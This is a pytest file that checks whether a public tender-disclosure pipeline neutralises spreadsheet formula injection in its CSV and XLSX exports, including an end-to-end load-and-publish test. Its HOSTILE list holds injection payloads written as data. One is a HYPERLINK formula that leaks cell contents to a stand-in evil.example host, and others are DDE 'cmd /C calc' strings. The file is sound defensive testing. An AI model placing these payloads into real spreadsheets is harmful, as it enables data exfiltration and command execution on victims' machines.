"""Published files cannot attack their readers: a text cell a spreadsheet would run
(=, +, -, @, tab, CR, LF, their full-width forms, after leading blanks) is neutralised
the OWASP way in CSV and is never a formula in XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import re
import zipfile
from pathlib import Path

import psycopg
import pytest

from .conftest import BATCH, WINNER, dbt_selection

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝HYPERLINK(\"http://evil.example\")",
    "＋1", "－1", "＠SUM(1)",
    "  =1+1",
    "\u3000=1+1",
]
HARMLESS = ["五华区学府路道路改造工程", "a=b", "1-2 标段", "'already quoted", ""]


def _xlsx_has_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), f"{path.name}:{name} holds a formula"


def test_every_formula_prefix_is_neutralised_in_csv_and_xlsx(tmp_path):
    from openpyxl import load_workbook

    from ggzy.disclosure import Column, TableSpec, write_table

    spec = TableSpec("disclosure.t", "测试", (Column("name", "名称"), Column("amount", "金额")))
    rows = [(text, decimal.Decimal("-12.50")) for text in HOSTILE + HARMLESS] + [(None, -3)]
    (csv_path, xlsx_path), n = write_table(spec, rows, tmp_path)
    assert n == len(rows)

    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
        got = list(csv.reader(fh))[1:]
    for (text, _), (cell, amount) in zip(rows[:-1], got, strict=False):
        if text in HOSTILE:
            assert cell == "'" + text, (text, cell)
        else:
            assert cell == text
        assert amount == "-12.50"  # a negative number is not escaped
    assert got[-1] == ["", "-3"]

    _xlsx_has_no_formula(xlsx_path)
    ws = load_workbook(xlsx_path).active
    cells = list(ws.iter_rows(min_row=2, values_only=False))
    for (text, _), (name, amount) in zip(rows[:-1], cells, strict=False):
        assert name.data_type == "s" or (text == "" and name.value is None), (text, name.data_type)
        # the exact text, shown as text (XML reads a bare CR back as LF)
        assert name.value == (text.replace("\r", "\n") or None)
        if text in HOSTILE:
            assert name.quotePrefix, text
        assert amount.data_type == "n" and amount.value == -12.5


def test_other_csv_writers_use_the_same_cells():
    """The credit-record export (ggzy credit export) writes its rows through csv_cells."""
    from ggzy.spreadsheet import csv_cells

    row = [HOSTILE[0], None, -3, decimal.Decimal("-1.5"), dt.date(2026, 2, 27), "云南恒通路桥有限公司"]
    assert csv_cells(row) == ["'" + HOSTILE[0], "", -3, decimal.Decimal("-1.5"), dt.date(2026, 2, 27), "云南恒通路桥有限公司"]
    src = (Path(__file__).resolve().parents[2] / "plugins/ggzy/supervision/credit.py").read_text(encoding="utf-8")
    assert "spreadsheet.csv_cells(row)" in src


def _hostile_batch(folder: Path, day: dt.date) -> str:
    """A trading-centre delivery of one tender whose name is a formula, awarded to a known
    company; the feed's other files come header-only, as on a quiet day."""
    from feeds_helpers import finish, valid_row, write_csv

    from ggzy.feeds import contract as c

    tender = {**valid_row(c.feed_file("trading_centre", "tenders.csv"), 1, day),
              "tender_id": "T2026-0666", "tender_name": HOSTILE[0], "status": "awarded",
              "announced_at": "2026-01-05T09:00:00+08:00", "bid_deadline": "2026-01-26T09:30:00+08:00",
              "updated_at": f"{day}T08:00:00+08:00"}
    award = {**valid_row(c.feed_file("trading_centre", "awards.csv"), 1, day),
             "tender_id": "T2026-0666", "winner_id": WINNER, "awarded_at": "2026-02-03T10:00:00+08:00",
             "updated_at": f"{day}T08:00:00+08:00"}
    batch = folder / "trading_centre" / day.isoformat()
    for ff in c.files_of("trading_centre"):
        write_csv(batch, ff, [tender] if ff.stem == "tenders" else [award] if ff.stem == "awards" else [])
    finish(batch, "trading_centre", day)
    return tender["tender_id"]


@pytest.fixture()
def feeds_helpers_on_path():
    import sys

    path = str(Path(__file__).resolve().parents[1] / "feeds")
    sys.path.insert(0, path)
    yield
    sys.path.remove(path)


def test_a_hostile_tender_name_loaded_through_the_feed_is_published_as_text(
        access_warehouse, tmp_path, feeds_helpers_on_path):
    """The probe's attempt end to end: load -> dbt -> gate -> publish; the tender name
    reaches the public files as the text it is, not as a live HYPERLINK."""
    from openpyxl import load_workbook

    from ggzy import disclosure
    from ggzy.feeds.load import load_batch
    from ggzy.transform import run_dbt

    url, _ = access_warehouse
    day = BATCH - dt.timedelta(days=1)
    # the tenders, the awards and what they feed (a rebuilt table drops the views on it)
    select = dbt_selection("stg_trading_centre__tenders", "stg_trading_centre__awards")
    tender_id = _hostile_batch(tmp_path / "landing", day)
    res = load_batch("trading_centre", day, tmp_path / "landing", url)
    assert res.status == "loaded" and res.loaded == 2 and res.quarantined == 0, res
    try:
        assert run_dbt(["run", *select], url=url, check=False) == 0
        with psycopg.connect(url, autocommit=True) as conn:
            assert conn.execute("select tender_name from disclosure.tender_results where tender_id = %s",
                                (tender_id,)).fetchone() == (HOSTILE[0],)
            conn.execute("insert into ops.quality_gate (batch_date, passed, checked_at, details, run_id) "
                         "values (%s, true, clock_timestamp(), '{}', 'test')", (BATCH,))
        pub = disclosure.publish(BATCH, url=url, export_root=tmp_path / "exports", force=True)
        assert pub.published, pub.reason
        folder = tmp_path / "exports" / BATCH.isoformat()
        month = folder / "tender_results" / "2026-02"  # awarded 2026-02-03: the file of that month
        with open(month.with_suffix(".csv"), encoding="utf-8-sig", newline="") as fh:
            names = {r[1] for r in list(csv.reader(fh))[1:]}
        assert "'" + HOSTILE[0] in names and HOSTILE[0] not in names
        xlsx_files = list(folder.rglob("*.xlsx"))
        assert month.with_suffix(".xlsx") in xlsx_files
        for xlsx in xlsx_files:
            _xlsx_has_no_formula(xlsx)
        cells = [c for row in load_workbook(month.with_suffix(".xlsx")).active.iter_rows() for c in row
                 if c.value == HOSTILE[0]]
        assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].quotePrefix
    finally:  # the other access tests expect the hand-made tender only
        with psycopg.connect(url, autocommit=True) as conn:
            for ff in ("trading_centre__tenders", "trading_centre__awards"):
                conn.execute(f"delete from raw.{ff} where _batch_date = %s", (day,))
        # staging is incremental: rows deleted from raw behind the loader's back need a rebuild
        run_dbt(["run", "--full-refresh", *select], url=url, check=False)
